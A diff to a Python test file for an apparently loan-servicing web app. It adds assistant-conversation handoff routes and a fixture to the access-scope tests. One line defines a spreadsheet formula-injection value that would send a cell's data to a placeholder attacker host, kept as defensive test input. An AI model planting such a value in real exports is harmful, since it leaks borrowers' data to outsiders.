@@ -30,7 +30,7 @@ from fastapi.routing import iter_route_contexts
 from sqlalchemy import func, insert, select, update
 from tests.web.conftest import AS_OF, SETUP_TIME, TEST_KEY
 
-from forbear.services import contacts, staff
+from forbear.services import assistant, contacts, staff
 from forbear.store.audit import AuditEvent
 from forbear.store.crypto import Contexts, PiiVault
 from forbear.store.legal import LegalCase, LegalQueueEntry
@@ -45,6 +45,7 @@ ACCOUNT_IDS = {
     "attempt_id",
     "complaint_id",
     "message_id",  # an outbox message (the outbox and sent-messages pages)
+    "conversation_id",  # a conversation with the assistant, handed to agents (issue 14)
 }
 # Routes with an id in the path that are not about one account of the book, or that are
 # the borrower's own (a borrower session; each borrower reaches only their own loans,
@@ -59,6 +60,9 @@ NOT_STAFF_ACCOUNT_ROUTES = {
     "/api/v1/channels/{provider}/payments",
     # a reply belongs to a borrower, not a loan: its scope is tested in test_reply_inbox.py
     "/replies/{reply_id}/handled",
+    # the borrower's own conversation (portal session or the lender's signed app):
+    # tests/web/assistant/test_api.py
+    "/api/v1/assistant/conversations/{conversation_id}",
 }
 BORROWER_SIDE = ("/api/v1/portal/", "/portal/")
 # (scoped user, twin who sees the account): same role
@@ -127,6 +131,11 @@ EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
     ("POST", "/legal/cases/{case_id}/advance"): {"data": {"to": "demand_letter"}},
     ("POST", "/compliance/complaints/{complaint_id}/survey"): {"data": {"score": "4"}},
     ("POST", "/compliance/complaints/{complaint_id}/{action}"): {"data": {}},
+    # the agents' handoff pages of the assistant (issue 14)
+    ("POST", "/assistant/conversations/{conversation_id}/take-over"): {"data": {}},
+    ("POST", "/assistant/conversations/{conversation_id}/reply"): {"data": {"text": "您好"}},
+    ("POST", "/assistant/conversations/{conversation_id}/release"): {"data": {}},
+    ("POST", "/assistant/conversations/{conversation_id}/close"): {"data": {}},
 }
 OTHER_PARAMS = {"name": "case-{case_id}-parties.csv", "action": "start"}
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
@@ -229,6 +238,7 @@ def make_targets(sign_in, book, db) -> Targets:  # type: ignore[no-untyped-def]
     message = _dead_message(db, loan)
     return Targets(
         ids={
+            "conversation_id": _waiting_conversation(db, loan),
             "message_id": message,
             "loan_id": loan,
             "promise_id": int(promise),
@@ -240,6 +250,18 @@ def make_targets(sign_in, book, db) -> Targets:  # type: ignore[no-untyped-def]
         loans=loans,
         attempt_loan=attempt_loan,
     )
+
+
+def _waiting_conversation(db, loan: int) -> int:  # type: ignore[no-untyped-def]
+    """A portal conversation of ``loan``'s borrower handed over to the agents."""
+    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
+    vault = PiiVault(TEST_KEY)
+    talk = assistant.open_conversation(
+        db.conn, vault, channel="portal", now=SETUP_TIME, borrower_id=int(borrower)
+    )
+    assistant.record_turn(db.conn, vault, talk, role="borrower", text="我要找人工", now=SETUP_TIME)
+    assistant.hand_over(db.conn, talk, reason="asked", now=SETUP_TIME)
+    return talk.id
 
 
 def _dead_message(db, loan: int) -> int:  # type: ignore[no-untyped-def]
